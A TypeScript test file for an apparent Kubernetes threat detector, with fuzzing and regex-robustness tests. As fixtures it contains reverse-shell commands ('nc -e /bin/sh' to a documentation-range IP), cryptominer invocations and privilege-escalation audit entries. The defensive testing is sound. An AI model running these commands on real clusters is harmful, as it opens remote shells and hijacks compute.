import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { auditEntry } from '../../../local/scenarios/audit-entry.ts';
import { actingText } from '../../../shared/detection/command.ts';
import { evaluate } from '../../../shared/detection/evaluate.ts';
import { minerIn } from '../../../shared/detection/miner.ts';
import { reverseShellIn } from '../../../shared/detection/reverse-shell.ts';
import { Malformed } from '../../../shared/errors.ts';
import { finding } from '../../../shared/model/finding.ts';
import { readPayload } from '../../../shared/sources/registry.ts';
import { NOW } from '../../fixtures/signals.ts';
import { deployment, ownedByReplicaSet, pod, podSpec, UID } from '../../fixtures/workloads.ts';

const PRIVILEGED = podSpec({ securityContext: { privileged: true } }, { volumes: [{ hostPath: { path: '/' } }] });
const GROUP = 'rbac.authorization.k8s.io';

/** Payloads that rules fire on, of every shape that audit entries have. */
const AUDIT_PAYLOADS: readonly unknown[] = [
  auditEntry({
    verb: 'create',
    resource: 'pods',
    subresource: 'exec',
    namespace: 'shop',
    name: 'cart-0',
    command: 'nc -e sh h 1',
  }),
  auditEntry({
    verb: 'create',
    resource: 'pods',
    namespace: 'shop',
    request: pod(PRIVILEGED),
    response: pod(PRIVILEGED, { uid: UID }),
  }),
  auditEntry({
    verb: 'create',
    resource: 'pods',
    namespace: 'shop',
    principal: 'system:serviceaccount:kube-system:replicaset-controller',
    request: pod(PRIVILEGED, ownedByReplicaSet()),
  }),
  auditEntry({
    verb: 'patch',
    group: 'apps',
    resource: 'deployments',
    namespace: 'shop',
    name: 'cart',
    request: deployment(PRIVILEGED),
  }),
  auditEntry({
    verb: 'create',
    group: GROUP,
    resource: 'clusterrolebindings',
    name: 'ops',
    principal: 'system:anonymous',
    request: { roleRef: { name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'system:anonymous' }] },
    split: { uid: 'u', index: 0, totalSplits: 2 },
  }),
  {
    kind: 'Event',
    auditID: 'a',
    verb: 'get',
    requestURI: '/api/v1/namespaces/shop/pods/cart-0/exec?command=xmrig',
    objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'cart-0' },
    sourceIPs: ['203.0.113.7'],
  },
];

const PAYLOADS: readonly unknown[] = [
  ...AUDIT_PAYLOADS,
  {
    incident: { incident_id: '0.x', policy_name: 'p', state: 'open', condition: { conditionMatchedLog: {} } },
    version: '1.2',
  },
  { finding: { name: 'f', category: 'c' } },
  { rule: 'r', output: 'o', priority: 'Warning' },
];

/** What a stranger puts where something else is expected. */
const odd: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    true,
    0,
    -1,
    1e308,
    '',
    [],
    {},
    [[]],
    '../x',
    '\u0000\u202e',
    '__proto__',
    'x'.repeat(70_000),
  ),
  fc.constantFrom<unknown>(
    'system:anonymous',
    'io.k8s.core.v1.pods.create',
    'core/v1/namespaces/shop/pods',
    '2026-99-99T99:99:99Z',
    '-9223372036854775808',
  ),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.jsonValue({ maxDepth: 3 }),
);

type Change = { path: number[]; value: unknown; drop: boolean };
const change: fc.Arbitrary<Change> = fc.record({
  path: fc.array(fc.nat(12), { minLength: 1, maxLength: 7 }),
  value: odd,
  drop: fc.boolean(),
});

/** The payload with the place that `path` leads to dropped or replaced; a path that ends early changes its end. */
const mangled = (payload: unknown, { path, value, drop }: Change): unknown => {
  const [step, ...rest] = path;
  if (step === undefined || typeof payload !== 'object' || payload === null) return value;
  const entries = Object.entries(payload);
  const chosen = entries[step % Math.max(1, entries.length)];
  if (chosen === undefined) return value;
  const [key, inner] = chosen;
  const changed = entries.flatMap(([name, held]): Array<[string, unknown]> => {
    if (name !== key) return [[name, held]];
    return rest.length === 0 && drop ? [] : [[name, mangled(inner, { path: rest, value, drop })]];
  });
  return Array.isArray(payload) ? changed.map(([, held]) => held) : Object.fromEntries(changed);
};

/** The audit findings of a payload; reading it may fail in one way only. */
const score = (payload: unknown): void => {
  try {
    const { signal } = readPayload(payload, { now: NOW });
    if (signal?.kind !== 'audit') return;
    for (const found of evaluate(signal, NOW)) finding.strict().parse(found);
  } catch (thrown) {
    if (!(thrown instanceof Malformed)) throw thrown;
    assert.match(thrown.message, /^[ -~]{10,400}$/);
  }
};

describe('hostile payloads', () => {
  it('fire rules as long as nobody touches them', () => {
    const fired = AUDIT_PAYLOADS.map((payload) => {
      const { signal } = readPayload(payload, { now: NOW });
      return signal?.kind === 'audit' ? evaluate(signal, NOW).length : 0;
    });
    assert.ok(
      fired.slice(0, 6).every((count) => count > 0),
      String(fired),
    );
  });

  it('give findings by the schema or a sentence, mangled as they may be', () => {
    fc.assert(
      fc.property(fc.constantFrom(...PAYLOADS), fc.array(change, { minLength: 1, maxLength: 4 }), (payload, changes) =>
        score(changes.reduce(mangled, payload)),
      ),
      { numRuns: 2000 },
    );
  });

  it('give findings or a sentence where they are any JSON at all', () => {
    fc.assert(fc.property(fc.json(), (json) => score(JSON.parse(json))));
  });
});

describe('hostile command lines', () => {
  // Pieces on which a careless pattern starts over at every character.
  const pieces = [
    'nc ',
    '/dev/tcp/',
    'sh -i ',
    'a|',
    '"',
    "'\\",
    '-a ',
    '4A',
    'AAAA',
    '$(',
    '|sh|',
    ' ',
    'a=1 ',
    '`',
    'x.',
    ';',
  ];
  const LONG = 60 * 1024;

  for (const piece of pieces) {
    // A pattern that is quadratic in these does not come back before mocha gives up.
    it(`hide nothing behind ${JSON.stringify(piece)}, however often it is said`, () => {
      const padding = piece.repeat(Math.ceil(LONG / piece.length));
      assert.notEqual(minerIn(`${padding}\n./kworker --donate-level 1`), undefined);
      assert.notEqual(reverseShellIn(`${padding}\nnc -e /bin/sh 203.0.113.9 4444`), undefined);
    });
  }

  it('are looked at up to a bound', () => {
    assert.ok(actingText('x'.repeat(1_000_000)).length < 300_000);
  });
});
